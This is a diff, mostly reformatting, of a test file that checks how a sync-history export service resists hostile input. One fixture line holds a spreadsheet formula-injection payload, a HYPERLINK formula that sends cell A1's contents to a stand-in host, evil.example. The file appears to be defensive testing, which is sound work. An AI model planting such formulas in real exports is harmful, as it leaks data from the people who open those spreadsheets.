@@ -16,13 +16,24 @@ const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', '+1+2', 
 /** MANY_RUNS plain runs, then one run per formula-like reason started by 'mallory', with a negative duration. */
 function seed(databasePath: string): void {
   const db = new Database(databasePath);
-  const insert = db.prepare(`INSERT INTO data_syncs (source_id, trigger, triggered_by, reason, status, created_at, started_at, finished_at, duration_ms, fetched, error_kind, error_message)
+  const insert =
+    db.prepare(`INSERT INTO data_syncs (source_id, trigger, triggered_by, reason, status, created_at, started_at, finished_at, duration_ms, fetched, error_kind, error_message)
     VALUES ('faculty', 'manual', ?, ?, ?, ?, ?, ?, ?, 100, ?, ?)`);
   db.transaction(() => {
     for (let i = 0; i < MANY_RUNS; i++) {
       const at = new Date(Date.parse('2026-01-01T00:00:00Z') + i * 60_000).toISOString();
       const isFailed = i % 5 === 0;
-      insert.run('admin', 'nightly', isFailed ? 'failed' : 'success', at, at, at, 1000 + i, isFailed ? 'upstream' : null, isFailed ? `gateway answered 503 on page ${i}` : null);
+      insert.run(
+        'admin',
+        'nightly',
+        isFailed ? 'failed' : 'success',
+        at,
+        at,
+        at,
+        1000 + i,
+        isFailed ? 'upstream' : null,
+        isFailed ? `gateway answered 503 on page ${i}` : null,
+      );
     }
     for (const reason of FORMULAS) insert.run('mallory', reason, 'failed', '2026-12-01T00:00:00.000Z', null, null, -5, 'upstream', '=1+1');
   })();
@@ -32,7 +43,12 @@ function seed(databasePath: string): void {
 type Download = { status: number; bytes: number; isComplete: boolean };
 
 /** A GET read by a raw client: `onData` may destroy the request (a client that goes away mid-download). */
-function download(port: number, path: string, cookie: string, onData: (request: http.ClientRequest, bytes: number) => void = () => undefined): Promise<Download> {
+function download(
+  port: number,
+  path: string,
+  cookie: string,
+  onData: (request: http.ClientRequest, bytes: number) => void = () => undefined,
+): Promise<Download> {
   return new Promise((resolve) => {
     let bytes = 0;
     let status = 0;
@@ -100,7 +116,10 @@ describe('exports and input under attack', () => {
       await auditor().get('/api/health').expect(200);
     }
     const lines = t.logger.lines.filter((line) => line.includes('disk I/O error'));
-    expect(lines).toEqual([expect.stringMatching(/hamgam-runs\.csv stopped after 3,000 rows: SqliteError: disk I\/O error/), expect.stringMatching(/hamgam-runs\.xlsx stopped after 3,000 rows/)]);
+    expect(lines).toEqual([
+      expect.stringMatching(/hamgam-runs\.csv stopped after 3,000 rows: SqliteError: disk I\/O error/),
+      expect.stringMatching(/hamgam-runs\.xlsx stopped after 3,000 rows/),
+    ]);
   });
 
   it('should answer a plain error, not a file, when the history fails before the first row', async () => {
@@ -221,7 +240,9 @@ describe('exports and input under attack', () => {
 
   it('should still answer pages and searches within the limits when the input is plain', async () => {
     await auditor().get('/api/runs?q=abc&page=1000000').expect(200);
-    await auditor().get(`/api/runs?q=${encodeURIComponent('کد ملی')}`).expect(200);
+    await auditor()
+      .get(`/api/runs?q=${encodeURIComponent('کد ملی')}`)
+      .expect(200);
     await auditor().get('/api/sources/faculty/records?q=abc&page=2').expect(200);
   });
 
@@ -239,7 +260,11 @@ describe('exports and input under attack', () => {
   });
 
   it('should still take ordinary JSON and refuse malformed JSON as before when bodies are not deep', async () => {
-    await t.http().patch('/api/sources/faculty').send({ timeoutSeconds: 1200, connection: { baseUrl: 'http://127.0.0.1:9/' } }).expect(200);
+    await t
+      .http()
+      .patch('/api/sources/faculty')
+      .send({ timeoutSeconds: 1200, connection: { baseUrl: 'http://127.0.0.1:9/' } })
+      .expect(200);
     const malformed = await t.http().patch('/api/sources/faculty').set('Content-Type', 'application/json').send('{"timeoutSeconds":').expect(400);
     expect(malformed.body.message).toBe('Unexpected end of JSON input');
   });
